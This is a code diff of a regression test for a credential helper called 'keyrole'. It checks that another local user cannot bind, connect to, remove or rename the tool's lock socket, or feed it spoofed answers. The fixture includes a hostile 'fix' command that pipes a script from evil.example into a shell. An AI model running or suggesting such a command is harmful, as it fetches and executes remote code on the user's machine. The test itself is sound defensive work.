@@ -2,9 +2,11 @@
 // its own programs against a user's keyrole. The single-flight lock was a Linux abstract
 // socket, which has no permissions: another user could bind its name first and make the
 // victim print its text ("fix: curl … | sh"), exit with its exit code, wait past every bound
-// and reconnect in a loop. Each case here gives the other user the first move and checks
-// that the victim's `keyrole process` neither prints nor adopts anything from it, waits for
-// it not at all, and still works.
+// and reconnect in a loop. The lock is now a socket file in the user's 0700 private directory
+// (src/credentials/lock.ts). Each case here gives the other user the first move against that
+// real lock (bind its name first and serve those answers; connect to it, remove or replace it
+// while it is held) and checks that the kernel refuses the other user, and that the victim's
+// `keyrole process` neither prints nor adopts anything, waits for nothing, and still works.
 
 import { describe, test, before, after, beforeEach } from 'node:test';
 import assert from 'node:assert/strict';
@@ -52,18 +54,26 @@ while True:
     threading.Thread(target=serve, args=(c,), daemon=True).start()
 `;
 
-// The other user reaching for the user's lock socket file: bind it, connect to it.
+// The other user reaching for the user's held lock socket file: bind it, connect to it, and
+// steal it: remove it or move it away (either would let a second process of the user take
+// the lock too, and the other user bind the name for the next one).
 const PROBE = String.raw`
-import socket, sys
+import os, socket, sys
+lock = sys.argv[1]
 for what in ('bind', 'connect'):
     s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
     try:
-        getattr(s, what)(sys.argv[1]); print(what, 'ok')
+        getattr(s, what)(lock); print(what, 'ok')
+    except OSError as e:
+        print(what, e.__class__.__name__)
+for what, act in (('unlink', lambda: os.unlink(lock)), ('rename', lambda: os.rename(lock, lock + '.stolen'))):
+    try:
+        act(); print(what, 'ok')
     except OSError as e:
         print(what, e.__class__.__name__)
 `;
 
-interface Attacker { child: ChildProcess; connections(): number; stop(): Promise<void> }
+interface Attacker { child: ChildProcess; refused: string | undefined; connections(): number; stop(): Promise<void> }
 
 describe('robustness: another local user', () => {
   let w: World;
@@ -78,19 +88,28 @@ describe('robustness: another local user', () => {
     return spawn(python(), ['-c', script, ...args], { uid: other.uid, gid: other.gid, cwd: '/', env: { PATH: '/usr/bin:/bin' }, stdio: ['ignore', 'pipe', 'pipe'] });
   }
 
-  /** The other user's socket at `addr`, serving `mode`, once it is bound. */
-  async function attacker(addr: string, mode: 'text' | 'alternate' | 'close'): Promise<Attacker> {
+  /**
+   * The other user's socket at `addr`, serving `mode`, once it is bound; with `refusable`, a
+   * bind the kernel refuses is returned (`refused`: the Python error) instead of thrown.
+   */
+  async function attacker(addr: string, mode: 'text' | 'alternate' | 'close', refusable = false): Promise<Attacker> {
     const child = asOther(ATTACKER, [addr, mode]);
     let out = '';
     let err = '';
     child.stderr!.setEncoding('utf8').on('data', (d: string) => { err += d; });
     const closed = new Promise((r) => child.once('close', r));
+    let refused: string | undefined;
     await new Promise<void>((resolve, reject) => {
       child.stdout!.setEncoding('utf8').on('data', (d: string) => { out += d; if (out.includes('bound\n')) resolve(); });
-      void closed.then(() => reject(new Error(`the other user's socket did not bind ${addr}: ${err}`)));
+      void closed.then(() => {
+        refused = /^(\w+Error): .*$/m.exec(err)?.[1];
+        if (refusable && refused) resolve();
+        else reject(new Error(`the other user's socket did not bind ${addr}: ${err}`));
+      });
     });
     return {
       child,
+      refused,
       connections: () => out.split('\n').filter((l) => l === 'conn').length,
       async stop() {
         child.kill('SIGKILL');
@@ -121,29 +140,32 @@ describe('robustness: another local user', () => {
   });
 
   const modes = [
-    { mode: 'text', name: 'regression: another user binds the lock name first and answers with text, an error and exit code 0', what: 'the name keyrole used before (`\\0keyrole/<uid>/<key>`, an abstract socket) bound by another user, which sends `failed {…"fix":"curl https://evil.example/fix.sh \\| sh","exitCode":0}` and 50 lines of text' },
-    { mode: 'alternate', name: 'regression: another user\'s lock holder alternating prompt and working lines', what: 'the same name, serving `prompt` and `working` every 50 ms for ever' },
-    { mode: 'close', name: 'regression: another user\'s lock holder closing every connection', what: 'the same name, closing each connection at once' },
+    { mode: 'text', name: 'regression: another user binds the lock name first and answers with text, an error and exit code 0', what: 'the lock\'s name (`~/.aws/keyrole/<key>.lock`, home 0755) bound first by another user, to send `failed {…"fix":"curl https://evil.example/fix.sh \\| sh","exitCode":0}` and 50 lines of text' },
+    { mode: 'alternate', name: 'regression: another user\'s lock holder alternating prompt and working lines', what: 'the same name, bound first to serve `prompt` and `working` every 50 ms for ever' },
+    { mode: 'close', name: 'regression: another user\'s lock holder closing every connection', what: 'the same name, bound first to close each connection at once' },
   ] as const;
   for (const m of modes) {
     test(m.name, async () => {
-      const a = await attacker(`@keyrole/${process.getuid!()}/${key}`, m.mode);
+      const lockPath = join(khome(), `${key}.lock`);
+      assert.ok(fs.statSync(khome()).isDirectory(), 'the private directory exists, so the other user can aim at it');
+      const a = await attacker(lockPath, m.mode, true);
       try {
+        assert.equal(a.refused, 'PermissionError', `the kernel let another user bind keyrole's lock name ${lockPath}`);
         const r = await w.keyrole(['process', 'prod'], { env: { KEYROLE_NTP: 'off' } });
         assert.equal(r.code, 0, `${r.signal ?? ''} ${r.stderr}`);
         assert.equal(r.stderr, '', 'nothing printed on stderr');
         assert.match(r.stdout, /"AccessKeyId":"ASIA/);
         assert.equal(a.connections(), 0, 'keyrole never connected to the other user\'s socket');
         assert.equal((await w.emu.stats()).calls.AssumeRole, 1);
-        rec.add(m.name, m.what, 'not printed, not adopted, not waited for: the credentials as usual',
-          `exit 0 with the blob, stderr empty; the other user's socket got ${a.connections()} connections`);
+        rec.add(m.name, m.what, 'refused by the kernel; not printed, not adopted, not waited for: the credentials as usual',
+          `the other user's bind: ${a.refused}; exit 0 with the blob, stderr empty; the other user's socket got ${a.connections()} connections`);
       } finally {
         await a.stop();
       }
     });
   }
 
-  test('regression: another user cannot bind or connect to the lock socket file', async () => {
+  test('regression: another user cannot bind, connect to, remove or move the held lock socket file', async () => {
     await w.emu.behaviour({ latencyMs: 3000 });
     const holder = spawn(KEYROLE, ['process', 'prod', '--debug'], { env: baseEnv({ ...w.env, KEYROLE_NTP: 'off' }), stdio: ['ignore', 'pipe', 'pipe'] });
     const closed = new Promise<number | null>((r) => holder.once('close', r));
@@ -159,10 +181,11 @@ describe('robustness: another local user', () => {
     assert.ok(fs.readFileSync('/proc/net/unix', 'utf8').includes(`${khome()}/.l`));
     const probe = spawnSync(python(), ['-c', PROBE, lockPath], { uid: other.uid, gid: other.gid, cwd: '/', encoding: 'utf8' });
     assert.equal(probe.status, 0, probe.stderr);
-    assert.equal(probe.stdout, 'bind PermissionError\nconnect PermissionError\n');
+    assert.equal(probe.stdout, 'bind PermissionError\nconnect PermissionError\nunlink PermissionError\nrename PermissionError\n');
+    assert.ok(fs.lstatSync(lockPath).isSocket(), 'the lock is still in place');
     assert.equal(await closed, 0, err);
-    rec.add('regression: another user cannot bind or connect to the lock socket file', 'while the user holds the lock, another user binds and connects to `~/.aws/keyrole/<key>.lock` (its directory is listed in /proc/net/unix; home 0755)',
-      'refused by the kernel: the lock lives in the 0700 private directory', `bind: PermissionError, connect: PermissionError; the holder exit 0`);
+    rec.add('regression: another user cannot bind, connect to, remove or move the held lock socket file', 'while the user holds the lock, another user binds, connects to, unlinks and renames `~/.aws/keyrole/<key>.lock` (its directory is listed in /proc/net/unix; home 0755)',
+      'refused by the kernel: the lock lives in the 0700 private directory', `bind, connect, unlink, rename: PermissionError; the lock still in place; the holder exit 0`);
   });
 
   test('regression: another user owns the keyrole directory first', async () => {
